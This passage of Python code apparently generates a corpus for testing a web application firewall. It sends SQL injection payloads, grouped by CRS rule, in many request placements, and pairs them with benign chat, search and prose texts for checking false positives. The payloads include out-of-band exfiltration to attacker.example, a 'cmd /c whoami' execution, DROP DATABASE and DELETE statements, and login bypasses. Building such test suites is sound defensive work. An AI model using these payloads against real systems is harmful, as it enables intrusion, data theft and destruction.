        "1 AND 1 IS TRUE",  # MySQL/PostgreSQL
        "1 OR NOT 0",  # MySQL
        "1 || 1=1",  # MySQL with default sql_mode
        "1 && 2=2",  # MySQL
        "1 OR 'a'",  # MySQL: string truthiness
        "1 AND 2 IS NOT FALSE",  # MySQL/PostgreSQL
        "x' OR 1 REGEXP 1#",  # MySQL
    ]),
    # 942400 PL2: SQL Injection Attack
    ("sql-injection-attack-942400", [
        "1 AND 'a'='a'",  # any
        "x' AND 'b'>'a",  # MySQL
        "1 and 'x' like 'x'",  # MySQL
        "' AND 'A' IN ('A')-- -",  # MySQL
        "1 AND \"a\"=\"a\"",  # MySQL (ANSI_QUOTES off)
        "' and 'foo' regexp 'f",  # MySQL
        "1 AND 'q'<>'w'",  # any
        "x' and '1'>'0",  # MySQL
        "1 and 'a' is not null",  # any
    ]),
    # 942410 PL2: SQL Injection Attack
    ("sql-injection-attack-942410", [
        "1 AND LPAD(1,2,1)",  # MySQL
        "1 AND UUID()",  # MySQL
        "1 AND SCHEMA()",  # MySQL: DATABASE() synonym
        "1 AND CONNECTION_ID()>0",  # MySQL
        "1 AND SESSION_USER() LIKE 'r%'",  # MySQL
        "1 AND current_setting('data_directory') IS NOT NULL",  # PostgreSQL
        "1 AND pg_backend_pid()>0",  # PostgreSQL
        "1 AND SYS_CONTEXT('USERENV','DB_NAME') IS NOT NULL",  # Oracle
        "1 AND HOST_NAME()<>''",  # MSSQL
        "1 AND SUSER_SNAME()<>''",  # MSSQL
        "1 AND sqlite_source_id()<>''",  # SQLite
        "1 AND ROW_COUNT()>=0",  # MySQL
    ]),
    # 942470 PL2: SQL Injection Attack
    ("sql-injection-attack-942470", [
        "'||utl_http.request('http://attacker.example/'||user)||'",  # Oracle: out of band HTTP
        "'||dbms_pipe.receive_message('a',5)||'",  # Oracle: time-based
        "1 AND ctxsys.drithsx.sn(1,(SELECT user FROM dual))=1",  # Oracle: error-based
        "';EXEC sp_password--",  # MSSQL: hides the statement from the trace
        "1;EXEC xp_availablemedia--",  # MSSQL: drive listing
        "';EXEC sp_makewebtask 'C:\\inetpub\\wwwroot\\x.html','SELECT 1'--",  # MSSQL 2000
        "1 AND dbms_java.runjava('x')=1",  # Oracle with Java
        "';EXEC sp_OAMethod @o,'Run',NULL,'cmd /c whoami'--",  # MSSQL
        "1;EXEC xp_servicecontrol 'start','schedule'--",  # MSSQL
        "'||dbms_lock.sleep(5)||'",  # Oracle: time-based
        "'||UTL_INADDR.get_host_address('attacker.example')||'",  # Oracle: DNS out of band
    ]),
    # 942480 PL2: SQL Injection Attack
    ("sql-injection-attack-942480", [
        "';DELETE FROM t WHERE 1#",  # MySQL
        "';INSERT INTO logs SELECT * FROM users#",  # MySQL: INSERT ... SELECT
        "1;CREATE TABLE x(a text)",  # PostgreSQL/SQLite
        "';DROP DATABASE app-- -",  # MySQL
        "1;DROP TABLE IF EXISTS t",  # any
        "';UPDATE accounts SET balance=1e9 WHERE id=1-- -",  # MySQL
        "' UNION SELECT 1 INTO @x-- -",  # MySQL
        "1;CREATE USER x IDENTIFIED BY 'y'",  # MySQL/Oracle
        "';GRANT ALL ON *.* TO x#",  # MySQL
        "';DELETE users FROM users JOIN t-- -",  # MySQL: multi-table delete
    ]),
    # 942430 PL2: Restricted SQL Character Anomaly Detection (args): # of special characters exceeded (12)
    ("special-char-anomaly", [
        "1'))))))))))))-- -",  # MySQL: overclosing to find the depth
        "'-'-'-'-'-'-'-'",  # MySQL: arithmetic chain of empty strings
        "((((((((((((1))))))))))))",  # any: deep nesting
        "'||'||'||'||'||'||'",  # Oracle/PostgreSQL: concatenation chain
        "1'\"`;)(*&^%$#@!~",  # MySQL fuzz: every quote and operator
        "-1'))) OR (((1=1)))-- -",  # MySQL: triple parenthesised context
        "'/**/OR/**/1/**/=/**/1/**/--/**/",  # MySQL: comment padding
        "(('))(('))(('))((",  # MySQL: parenthesis/quote fuzz
        "1;;;;;;;;;;;;;;",  # MSSQL: empty statements
        "'+'+'+'+'+'+'+'",  # MSSQL: concatenation chain
    ]),
    # 942440 PL2: SQL Comment Sequence Detected
    ("comment-sequence", [
        "admin'--+",  # MySQL via a URL: + becomes the required space
        "1'); -- ",  # MySQL: close a call, end the statement, comment
        "1;--",  # MSSQL
        "1 --\n",  # PostgreSQL: comment to the newline
        "1'/**/",  # MySQL
        "1'--\t",  # MySQL: tab after the dashes
        "1';\x00",  # MySQL/PHP: NUL truncation
        "1' ;#",  # MySQL
        "x'/*!*/",  # MySQL
        "'#--",  # MySQL
        "1' ;/*",  # MySQL: unclosed comment, MySQL ignores the rest
    ]),
    # 942450 PL2: SQL Hex Encoding Identified
    ("hex-encoding", [
        "1 UNION SELECT 0x61646d696e",  # MySQL: 'admin'
        "' OR login=x'61646d696e'#",  # MySQL/SQLite: X'..' literal
        "1 AND X'41'='A'",  # SQLite/MySQL
        "1 AND unhex('61')='a'",  # MySQL
        "1 UNION SELECT LOAD_FILE(0x2f6574632f686f737473)",  # MySQL: path
        "1 AND CHAR(0x41)='A'",  # MySQL
        "1 AND decode('61646d696e','hex')='admin'",  # PostgreSQL
        "1 AND E'\\x61'='a'",  # PostgreSQL: escape string
        "1 AND 0x7e=CHAR(126)",  # MySQL
        "1;DECLARE @s varchar(99)=0x73656c6563742031;EXEC(@s)--",  # MSSQL: hex-encoded statement
    ]),
    # 942510 PL2: SQLi bypass attempt by ticks or backticks detected
    ("tick-backtick-bypass", [
        "`'or 1#",  # MySQL: backtick then quote
        "`or`1`=`1",  # MySQL: identifier quoting around the operator
        "1`-- ",  # MySQL: close an identifier
        "`||1#",  # MySQL
        "1 UNION SELECT `pass` FROM `users`",  # MySQL: backtick-quoted identifiers
        "`id`=`id`",  # MySQL: a column compared to itself
        "\u00b4 OR 1=1-- ",  # apps that turn an acute accent into a quote (e.g. latin1 to ASCII folding)
        "\u2019 OR 1=1#",  # apps that fold a right quote to ' before MySQL
        "' OR `1`#",  # MySQL
        "ORDER BY `a`,(SELECT 1)#",  # MySQL: backticked column then a subquery
    ]),
    # CRS 4.x: JSON-Based SQL Injection
    ("json-based-sqli", [
        "1 AND '{\"a\":1}'::jsonb @> '{\"a\":1}'",  # PostgreSQL: containment
        "' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- -",  # MySQL 5.7+
        "1 AND json_type('{}')='object'",  # SQLite JSON1
        "' OR '{}' IS JSON-- ",  # PostgreSQL 16 / Oracle 21c: IS JSON predicate
        "1 AND JSON_VALUE('{\"a\":\"b\"}','$.a')='b'",  # MSSQL 2016+ / Oracle
        "' OR '[1]'::json->>0='1'--",  # PostgreSQL: ->> operator
        "1 AND JSON_LENGTH('[1]')=1",  # MySQL
        "'or json_valid('{}')#",  # MySQL
        "1 AND '{\"b\":2}'::jsonb ? 'b'",  # PostgreSQL: ? key operator
        "1 or 1=json_extract('[1]','$[0]')",  # SQLite
        "' OR JSON_CONTAINS('[1]','1')#",  # MySQL
    ]),
    # CRS 4.x: MySQL Scientific Notation payload detected
    ("mysql-scientific-notation", [
        "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e)=70",
        # MySQL: 1.e before '(' / ',' is ignored by the parser
        "' 1.e(user()) or '1'='1",  # MySQL
        "1e0union select 1",  # MySQL: exponent glued to UNION
        "0.e1union select user()",  # MySQL
        "1.0union select 1",  # MySQL: decimal glued to UNION
        "'1.e1or 1=1#",  # MySQL
        "1.e(select 1)",  # MySQL
        "2e0or 1=1",  # MySQL
        "1.e,user()",  # MySQL: in a select list
        "\\Nunion select 1",  # MySQL: \\N is NULL and needs no space
    ]),
    # CRS 4.x: SQL Authentication bypass (split query); two fields: user and pwd, joined here by " <pwd> "
    ("auth-bypass-split-query", [
        "admin\\ <pwd>  OR 1=1-- -",  # MySQL: backslash escapes the closing quote of user
        "admin'/* <pwd> */OR '1'='1",  # MySQL: comment spans both fields
        "\\ <pwd> OR 1#",  # MySQL
        "x\\ <pwd> ||1-- -",  # MySQL
        "admin'/* <pwd> */-- -",  # MySQL: the password check is commented out
        "\\ <pwd> )OR(1)#",  # MySQL: parenthesised query
        "x'/* <pwd> */OR/**/1#",  # MySQL
        "\\ <pwd>  UNION SELECT 1,'admin','x'-- -",  # MySQL: the login literal is swallowed, UNION returns admin
        "a\\ <pwd>  OR 'a'='a'-- -",  # MySQL
    ]),
    # CRS 4.x: Detects basic SQL authentication bypass attempts 4/4
    ("auth-bypass-4-of-4", [
        "'or 1#",  # MySQL
        "\"or 1#",  # MySQL
        "'or-1#",  # MySQL: negative truth
        "' OR NOT 0#",  # MySQL
        "admin'/*",  # MySQL: unclosed comment drops the rest
        "'or'1",  # MySQL: shortest string form
        "'=''or'",  # MySQL
        "'or 1=1 limit 1-- ",  # MySQL
        "admin' #",  # MySQL
        "'or 2 like 2#",  # MySQL
    ]),
]
SPLIT = " <pwd> "

OURS = ["query", "form", "json", "cookie", "header:User-Agent", "query", "header:Referer", "form", "header:X-Filter",
        "json", "param-name", "xml", "multipart-field", "query", "multipart-filename", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-query", "rs-header:X-Custom", "rs-cookie", "rs-form"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
NAMES = ["q", "id", "name", "filter", "sort", "email", "login", "user_id"]
BOUNDARY = "----qbxBoundary7MA4YWxkTrZu0gW"
COOKIE_SAFE = "!#$&'()*+-./:<=>?@[]^_`{|}~"


def _cookie_value(value: str) -> str:
    return urllib.parse.quote(value, safe=COOKIE_SAFE)


def _header_ok(value: str) -> bool:
    return not any(c in value for c in "\r\n\x00\x0b\x0c")


def _headers(extra: dict[str, str], ua: str = UA) -> dict[str, str]:
    return {"User-Agent": ua, "Accept": "*/*", **extra}


def _multipart(uri: str, fields: list[tuple[str, str]], file: tuple[str, str] | None = None) -> dict[str, Any]:
    parts = [f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in fields]
    if file is not None:
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{file[0]}"; filename="{file[1]}"\r\n'
                     "Content-Type: text/plain\r\n\r\nhello\r\n")
    body = "".join(parts) + f"--{BOUNDARY}--\r\n"
    return {"method": "POST", "uri": uri, "body": body,
            "headers": _headers({"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})}


def _xml(uri: str, tag: str, value: str) -> dict[str, Any]:
    body = f'<?xml version="1.0" encoding="UTF-8"?><user><{tag}>{escape(value)}</{tag}></user>'
    return {"method": "POST", "uri": uri, "body": body, "headers": _headers({"Content-Type": "application/xml"})}


def _fields(value: str, name: str) -> list[tuple[str, str]]:
    """The split-query sub-family's two halves as user and pwd; any other payload as one field."""
    if SPLIT in value:
        user, pwd = value.split(SPLIT, 1)
        return [("user", user), ("pwd", pwd)]
    return [(name, value)]


def _bracket(value: str, name: str) -> str | None:
    """A MongoDB operator in PHP/qs bracket syntax (login[$ne]=x, [$regex]=^a) as the raw key=value it is sent as."""
    if not re.match(r"^\w*\[\$", value):
        return None
    return urllib.parse.quote(value if value[0] != "[" else name + value, safe="[]$=")


def _doc(value: str) -> Any:
    """A MongoDB operator document ({"$gt": ""}) as the JSON object it is sent as; any other payload as a string."""
    if value.startswith("{\"$"):
        return json.loads(value)
    return value


def _ours(place: str, name: str, value: str) -> tuple[str, dict[str, Any]]:
    """The payload on one of our routes; (placement actually used, request)."""
    flat = value.replace(SPLIT, " ")
    raw = _bracket(value, name)
    if raw is not None and place in ("query", "param-name"):
        return place, _get(f"/api/users?{raw}&page=1")
    if raw is not None and place == "form":
        rec = _form("/admin/users/search", [("csrf_token", "t0k3n")])
        return place, {**rec, "body": rec["body"] + "&" + raw}
    if place == "json" and isinstance(_doc(value), dict):
        return place, _json("/api/users", {"email": "a@example.org", name: _doc(value)})
    if (place.startswith("header:") or place in ("cookie", "multipart-filename")) and (
            not _header_ok(flat) or (place == "multipart-filename" and '"' in flat)):
        place = "query"
    if place in ("param-name", "path", "xml", "multipart-filename") and SPLIT in value:
        place = "form"
    if place == "query":
        return place, _get(_query("/api/users", [*_fields(value, name), ("page", "1")]))
    if place == "form":
        return place, _form("/admin/users/search", [("csrf_token", "t0k3n"), *_fields(value, name)])
    if place == "json":
        return place, _json("/api/users", {"email": "a@example.org", **dict(_fields(value, name))})
    if place == "cookie":
        return place, {**_get("/api/users?page=1"),
                       "headers": _headers({"Cookie": f"session=abc123; {name}={_cookie_value(flat)}"})}
    if place == "header:User-Agent":
        return place, {**_get("/api/users?page=1"), "headers": _headers({}, ua=flat)}
    if place == "header:Referer":
        return place, {**_get("/api/users?page=1"), "headers": _headers({"Referer": flat})}
    if place == "header:X-Filter":
        return place, {**_get("/api/users?page=1"), "headers": _headers({"X-Filter": flat})}
    if place == "param-name":
        return place, _get("/api/users?" + urllib.parse.quote(value, safe="[]$") + "=1&page=1")
    if place == "xml":
        return place, _xml("/api/users", name, value)
    if place == "multipart-field":
        return place, _multipart("/admin/users/search", [("csrf_token", "t0k3n"), *_fields(value, name)])
    if place == "multipart-filename":
        return place, _multipart("/admin/users/search", [("csrf_token", "t0k3n")], ("avatar", value))
    return "path", _get("/api/users/" + urllib.parse.quote(value, safe=""))


def _rs(place: str, path: str, name: str, value: str) -> tuple[str, dict[str, Any]]:
    """The payload the way a WAF regression suite sends it; (placement actually used, request)."""
    flat = value.replace(SPLIT, " ")
    raw = _bracket(value, name)
    if raw is not None and place in ("rs-query", "rs-form"):
        return place, (_get(f"{path}?{raw}") if place == "rs-query" else
                       {**_form(path, []), "body": raw})
    if place == "rs-json" and isinstance(_doc(value), dict):
        return place, _json(path, {name: _doc(value)})
    if (place.startswith("rs-header:") or place == "rs-cookie") and not _header_ok(flat):
        place = "rs-query"
    if place in ("rs-xml", "rs-raw-body") and SPLIT in value:
        place = "rs-json"
    if place == "rs-query":
        return place, _get(_query(path, _fields(value, name)))
    if place == "rs-form":
        return place, _form(path, _fields(value, name))
    if place == "rs-json":
        return place, _json(path, dict(_fields(value, name)))
    if place == "rs-xml":
        return place, _xml(path, name, value)
    if place == "rs-raw-body":
        body = urllib.parse.quote(value, safe=" '\"()*,-./:;<>?@[]^_`{|}~!$\\")
        return place, {"method": "POST", "uri": path, "body": body,
                       "headers": _headers({"Content-Type": "application/x-www-form-urlencoded"})}
    if place == "rs-header:User-Agent":
        return place, {**_get(path), "headers": _headers({}, ua=flat)}
    if place == "rs-header:Referer":
        return place, {**_get(path), "headers": _headers({"Referer": flat})}
    if place == "rs-header:X-Custom":
        return place, {**_get(path), "headers": _headers({"X-Custom": flat})}
    return "rs-cookie", {**_get(path), "headers": _headers({"Cookie": f"{name}={_cookie_value(flat)}"})}


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    k = 0
    for sub, payloads in TITLES:
        for payload in payloads:
            ours_place, rec = _ours(OURS[k % len(OURS)], NAMES[k % len(NAMES)], payload)
            n += 1
            yield {**rec, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub, "placement": ours_place,
                   "payload": payload}
            rs_place, rec = _rs(RS[k % len(RS)], RS_PATHS[k % len(RS_PATHS)], RS_NAMES[k % len(RS_NAMES)], payload)
            n += 1
            yield {**rec, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub, "placement": rs_place,
                   "payload": payload}
            k += 1


# Benign: the same words as people type them.
SLACK_TEXTS = [
    "can someone select a time for the union meeting next week?",
    "drop me a line when the deploy is done",
    "I need more sleep, the benchmark ran until 3am",
    "order by date would make the report easier to read",
    "having lunch at 12:30, back after",
    "the insert key on my keyboard is broken lol",
    "update: the migration finished in 4 minutes",
    "delete the old branch once it's merged please",
    "who's on call this weekend? I can swap with Tom",
    "Sean O'Connor joined the data team today, say hi!",
    "the match against Leeds is at 8pm, anyone watching?",
    "we'll merge the feature flags PR after the release",
    "execute the runbook steps in order, don't skip step 3",
    "the union rep wants to talk about the new rota",
    "it's 1 or 2 days of work, not more",
    "the table in the kitchen is free for the workshop",
    "PostgreSQL 16 upgrade is scheduled for Saturday",
    "MySQL slow query log shows the users query at 2s",
    "the pg_dump backup ran at 02:00 as usual",
    "sqlite is fine for the prototype, we'll move later",
    "MongoDB Atlas bill went up 10% this month",
    "Oracle licence renewal is due in March",
    "SQL Server 2019 reaches end of mainstream support soon",
    "the information schema docs explain the column types well",
    "benchmark results: p99 latency 120ms, p50 35ms",
    "please don't sleep on the security training, due Friday",
    "the shutdown of the old data centre is on 30 June",
    "wait for the delay notice before rebooking trains",
    "my score was 5 out of 5 on the quiz :)",
    "the char limit on tweets is 280 now",
    "is it 'color' or 'colour' in our style guide?",
    "she said \"let's ship it\" and we shipped it",
    "use -- to separate flags from file names in the CLI",
    "the hashtag is #release-2024, please use it",
    "10/10 would recommend the new coffee machine",
    "from now on, standup is at 9:45",
    "Grant and Rose are presenting at the all-hands",
    "the alter ego of our mascot is a cat named Null",
    "the exec team approved the budget",
    "'tis the season for quarterly reviews",
    "rock 'n' roll night at the office party",
    "the 80/20 rule applies here, fix the big ones first",
    "count me in for the 5k run on Sunday",
    "what's the ETA on the invoice fix? customer asked twice",
    "can you convert the doc to PDF before sending?",
    "the case study is ready for review",
    "if it rains, we'll move the picnic inside",
    "either Tuesday or Wednesday works for me",
    "the version number is 3.0.1, not 3.1",
    "the sleep tracker app syncs at midnight",
    "left join vs inner join explained with cats, great blog post",
    "group by customer, then sum the amounts, that's the report",
    "where do we keep the spare HDMI cables?",
    "hex colour for the new brand is #1a2b3c",
    "the cursor in the editor disappears in dark mode",
    "we should limit the number of retries to 3",
    "offset printing quotes came back, 1200 EUR",
    "the declaration form needs a signature",
    "truncate the long names in the table view",
    "rename the channel to #team-data please",
    "the procedure for expenses changed in May",
    "function keys don't work on the new laptops",
    "our load testing tool is k6, results in Grafana",
    "the file upload limit is 10 MB",
    "backticks are for inline code in Slack, like `this`",
    "x-ray of my wrist came back fine, thanks all",
    "the Q3 numbers are 12% above plan",
    "Mary-Jane's birthday cake is in the fridge",
    "the D'Angelo account renewed for two years",
    "John's and Ann's desks moved to floor 2",
    "please respond by EOD; it's a hard deadline",
    "1 + 1 = 2, and 2 + 2 is the budget meeting",
    "the waitlist for the conference is 40 people long",
    "is the cloud bill and the on-prem bill in one sheet?",
    "A/B test: variant B won by 3.2%",
    "never trust user input, always use prepared statements",
    "the ORM builds the queries for us, no raw SQL please",
    "our DBA says vacuum runs nightly",
    "the index on email made the login query 10x faster",
    "the data dictionary lists every column and type",
    "I'm off sick today, back tomorrow hopefully",
    "the password manager rollout is next week",
    "the admin panel search is slow for names with accents",
    "coffee or tea? vote with an emoji",
    "match day tickets are in the shared drive",
    "ping @here if the build breaks again",
    "we're benchmarking three vendors for the CDN",
    "the union of both lists is 340 unique emails",
    "the roadmap has three themes: speed, trust and reach",
    "Löwenbräu and Ça va, the unicode test names, look right now",
    "O'Reilly Media sent the book proofs",
    "the delay was caused by a power cut at the venue",
    "the elections for the works council are in May",
    "replace the toner in the printer on floor 3",
    "the merge conflict was in package-lock.json again",
    "char siu bao for lunch, who's in?",
    "the script runs every 5 minutes via cron",
    "the sum of the invoices is 4,520.00 EUR",
    "use ISO dates: 2024-06-21, not 21/06/24",
    "the null hypothesis was rejected at p < 0.05",
    "the select committee hearing is on the radio",
    "this is a true/false question, not multiple choice",
    "the percentage is 50% for both groups",
    "the ASCII art banner in the README is cute",
    "please don't @ me before coffee",
    "the release notes are in the #announcements channel",
    "version 2.2.1 fixed the date picker",
    "the load balancer health check is every 10s",
    "our support hours are 9-5, Monday to Friday",
    "the decimal separator in Germany is a comma",
    "the bin collection is on Thursdays",
    "the sandwich order: 2x cheese, 1x ham & pickle",
    "let's table this discussion until next week",
    "the event listener fires twice, looking into it",
    "Jo said 'not today' and left for the weekend",
    "the new hire starts on the 1st, desk 42",
    "we hit 10,000 users today! 🎉",
    "the shell of the building is done, interior next",
    "the limit for the team lunch is 25 EUR per person",
    "the dump truck blocked the car park this morning",
    "read the fine print before signing",
    "is the exec summary one page or two?",
    "the pipeline failed at the lint step, fixing",
    "the doc says: where possible, use UTC",
]

SLASH_TEXTS = [
    "remind me to update the union rota tomorrow at 9am",
    "poll \"Lunch?\" \"Pizza\" \"Sushi\" \"Salad\"",
    "standup yesterday: benchmark runs; today: select the vendor",
    "giphy sleep",
    "weather London",
    "todo add: drop off the keys at reception",
    "ticket order by priority",
    "deploy api v2.3.1 to staging",
    "who is on call",
    "status in a meeting until 3pm",
    "remind #team to submit timesheets on Friday",
    "translate 'where is the station' to German",
    "jira create: table header misaligned on mobile",
    "search O'Brien",
    "lunch at 12:30 or 1?",
    "shrug",
    "poll \"Team event?\" \"Bowling\" \"Escape room\"",
    "timer 25m focus",
    "invite @ann to #data-warehouse",
    "remind me in 20 minutes to check the delay",
    "note: match report due by Monday",
    "feedback the search box should handle apostrophes like in D'Souza",
    "incident declare: slow queries on reports",
    "runbook execute restart-worker",
    "kudos to Grant for the schema migration",
    "expense 12.50 taxi from the airport",
    "book room 3 from 2pm to 3pm",
    "glossary SQL",
    "glossary ETL",
    "define benchmark",
    "calc 15% of 240",
    "convert 100 USD to EUR",
    "away until Monday",
    "tip: use the 'Order by' dropdown on the report page",
    "release notes 3.0",
    "oncall swap with @tom for Saturday",
    "sleep mode on for the night",
    "todo: update the README and the changelog",
    "feedback love the new select menus",
    "poll \"Retro format?\" \"Start/Stop/Continue\" \"Mad/Sad/Glad\"",
    "ask hr how many holiday days carry over",
    "remind me to renew the Oracle licence on 1 March",
    "search union square office",
    "merge request review please: !482",
    "trivia what is 1 + 1",
    "find file quarterly-report.xlsx",
    "remind #ops to rotate the on-call schedule",
    "cost report for May",
    "schedule 1:1 with Jo",
    "hello",
    "topic Q3 planning, union and group updates",
    "alias add db = database team",
    "vote yes or no on the new logo",
    "away lunch",
    "remind me at 5 to shut down the demo laptop",
    "short note: the shutdown test went well",
    "pin the table of contents",
    "weather New York",
    "status working from home",
    "report select last week",
    "translate 'drop it' to French",
    "todo: alter the invite to include remote folks",
    "qotd what's your favourite SQL joke",
    "wiki where is the onboarding page",
    "timer 5m tea",
    "stats active users today",
    "karma ++ for the fast fix",
    "ask it my laptop sleeps during calls",
    "snooze 1 hour",
    "team lunch: Thursday, 12:30, the usual place",
    "quote \"Simple things should be simple\"",
    "task: compare insert speed of the two disks",
    "bookmark https://dev.mysql.com/doc/refman/8.0/en/select.html",
    "bookmark https://www.postgresql.org/docs/current/functions-datetime.html",
    "nps 9",
    "coffee run, orders?",
    "links for the #sql-help channel",
    "focus 2h no meetings",
    "remind me to call O'Malley Ltd. back",
    "feature flag on new-search for 10%",
]

SEARCHES = [
    "O'Brien", "D'Souza", "O'Neil & Sons", "Mc Donald", "union street", "select cafe", "sleep clinic",
    "benchmark capital", "order status", "drop-off point", "insert molding", "update firmware", "delete account",
    "match results", "merge sort", "execute order", "shutdown button", "wait time", "delay repay", "char broil grill",
    "case study", "convert pdf to word", "table tennis club", "group chat", "having fun", "limit order",
    "John Smith", "Anne-Marie", "Renée Zellweger", "José García", "Zoë Kravitz", "Siobhán", "François",
    "10 Downing Street", "221B Baker Street", "Flat 3/2, 14 High St", "#42 Ocean Drive", "Apt. 5 - Floor 2",
    "1=1 bakery", "5 star hotel", "4 or 5 stars", "2 and 3 bedroom", "yes or no", "rock & roll",
    "A&E opening hours", "R&D team", "AT&T", "C++ jobs", "C# developer", "F# tutorial", ".NET core",
    "node.js", "SQL course", "MySQL tutorial", "PostgreSQL vs MySQL", "learn SQL in 10 minutes", "sqlite browser",
    "mongodb atlas pricing", "oracle cloud free tier", "sql server express", "what is a union select",
    "how to order by two columns", "benchmark laptop 2024", "sleep apnea", "waitfor", "alter table add column",
    "information schema", "hex to rgb", "0x1F600", "ascii table", "char codes", "user manual", "version history",
    "latest version", "database admin jobs", "db2 vs oracle", "json viewer", "json to csv", "exec summary template",
    "procedure manual", "function of liver", "insert picture in word", "drop shadow css", "case sensitive",
    "if then else", "either or", "true or false quiz", "null pointer", "null island", "where is my order",
    "where to buy", "from London to Paris", "select all", "like button", "regexp tester", "sounds like a plan",
    "between the lines", "in stock", "not available", "is it raining", "top 10 movies", "top 1 percent",
    "limit 100", "offset press", "count to 10", "sum of angles", "max speed", "min order", "avg rating",
    "1.5 million", "1e6", "3.14159", "2,147,483,647", "4294967296 bytes", "-1", "100%", "50% off", "$9.99",
    "£5", "€20", "1/2 price", "24/7 support", "9-5 jobs", "q&a", "faq", "it's", "don't", "rock 'n' roll",
    "\"exact phrase\"", "'single quoted'", "`code`", "tag:sql", "#hashtag", "@mention", "~home", "a*b",
]

PROSE = [
    "Please select the union representative by Friday and send the name to HR.",
    "The benchmark shows the new disks are 30% faster; sleep mode stays disabled on servers.",
    "Order by date, then by name, and drop the duplicates before exporting.",
    "Having read the report, I'd update the figures in table 3 and delete the old appendix.",
    "Match the invoice against the purchase order before you execute the payment.",
    "The merge of the two teams takes effect on 1 July; the shutdown of the old office follows.",
    "Wait for the confirmation email; the delay is usually under an hour.",
    "Our case-by-case review found 1 or 2 issues, not more.",
    "The customer's name is O'Hara, not OHara; please fix the record.",
    "Insert the card, enter the PIN, and select 'withdraw'.",
    "If the alarm sounds, leave the building by the nearest exit.",
    "The character limit for a bio is 160 chars, including spaces.",
    "Convert the amounts to EUR using the rate on the invoice date.",
    "Group the tickets by severity; limit the list to the top 10.",
    "The procedure for leave requests is on the intranet.",
    "Use the function keys F1-F12 for the shortcuts listed below.",
    "The schema of the export is described in the data dictionary.",
    "Between 9 and 5 the helpdesk answers within 15 minutes.",
    "Count the chairs, sum the costs, and send the total to finance.",
    "Null results are expected for new accounts with no orders yet.",
    "The version 2.0 release notes list 14 fixes and 3 new features.",
    "The truncated title 'Quarterly Rev...' should show in full on hover.",
    "Replace the filters in the coffee machine every two weeks.",
    "The sleep study recruits adults aged 18-65; sessions last one night.",
    "Rename the file to report-2024-06.pdf before uploading.",
    "Alter the seating plan so that the sales team sits together.",
    "The hex key for the bike is in the top drawer.",
    "The union of the two sets has 17 elements; the intersection has 4.",
    "She wrote: \"It's not a bug, it's a feature\" -- and she was right.",
    "The 'Where' column in the travel sheet is the destination city.",
    "Declare any conflict of interest before the vote.",
    "The grant application is due on the 15th; Grant is leading it.",
    "The executive summary goes first, then the details.",
    "Either the red or the blue design; not both.",
    "Tables 1-4 summarise the survey; table 5 lists the raw data.",
    "Please do not reply to this automated message.",
    "Ms. D'Arcy & Mr. L'Estrange will attend on behalf of the board.",
    "The result was true for 98% of the cases and false for the rest.",
    "Room 101, Building B, 3rd floor (use the lift by reception).",
    "Our SLA is 99.9%, i.e. about 43 minutes of downtime per month.",
    "The exam covers SELECT, JOIN, GROUP BY and simple subqueries.",
    "Chapter 7 explains how an index speeds up a WHERE clause.",
    "In the workshop we'll compare PostgreSQL, MySQL and SQLite.",
    "The training explains SQL injection and why parameters fix it.",
    "Oracle's documentation covers PL/SQL packages in part III.",
    "Our MongoDB cluster has three replicas in two regions.",
    "The backup window is 01:00-03:00 UTC; expect slow queries.",
    "A prepared statement keeps data and code apart.",
    "The talk 'Databases at scale' starts at 14:00 in hall B.",
    "Add a comment to the ticket explaining the root cause.",
    "The drop-down menu lists every country in alphabetical order.",
    "A 10-minute delay is fine; a 1-hour one needs a notice.",
    "Dates are written like 2024-06-21; times like 14:05.",
    "Temperatures ranged from -5 to 12 degrees.",
    "The chart's x-axis is time; the y-axis is requests per second.",
    "Score: 3-1 after extra time; the match report follows.",
    "The recipe needs 2 eggs, 1/2 cup of milk & a pinch of salt.",
    "Press Ctrl+C to copy and Ctrl+V to paste.",
    "The file path is C:\\Users\\Public\\Documents\\report.docx.",
    "The poem reads: 'to sleep, perchance to dream'.",
    "Key facts: 1) cheaper, 2) faster, 3) easier to maintain.",
    "The discount is 20% (max. 50 EUR) until 31/12.",
    "Email us at help@example.org or call +44 20 7946 0000.",
    "The 'union jack' flag is on the second shelf.",
    "Select your size: S, M, L or XL.",
    "Update your address in the profile page if you have moved.",
    "The bench mark on the wall shows the flood level of 1953.",
    "The alternate route avoids the roadworks on Union Road.",
    "I'm having the salad; Sam's having the soup.",
    "Sleep well, and see you at the offsite tomorrow!",
    "Version history: 1.0 (March), 1.1 (May), 2.0 (June).",
    "The shutdown procedure: save, close apps, then power off.",
    "Executive order 123 was discussed in the seminar.",
    "The book's index lists 'SQL' on pages 12, 45 and 200.",
    "The cast of the play includes Ann, Bob and Carla.",
    "Wait -- did you mean Tuesday or Thursday?",
    "The hashtag #TeamData trended on our intranet.",
    "Use /* and */ to wrap block comments in CSS.",
    "In Python, # starts a comment; in SQL it's -- or /* */.",
    "The char type stores fixed-length strings in most databases.",
    "The answer is 42, as everyone knows.",
    "Alice & Bob's guide to cryptography, 2nd edition.",
    "The sign said 'No entry -- staff only'.",
    "Is 1 < 2? Yes. Is 3 >= 3? Also yes.",
    "The order of operations: brackets, orders, division, multiplication.",
    "Our team's motto: 'ship small, ship often'.",
    "Replace 'colour' with 'color' in the US edition.",
    "Mark the box with an X if you agree.",
    "Select 'All' to include archived projects in the export.",
    "The invoice number is INV-2024-0042; reference it in the payment.",
]

PUBLIC_URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/select.html",
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://dev.mysql.com/doc/refman/8.0/en/information-schema.html",
    "https://dev.mysql.com/doc/refman/8.0/en/fulltext-search.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html",
    "https://www.postgresql.org/docs/current/sql-merge.html",
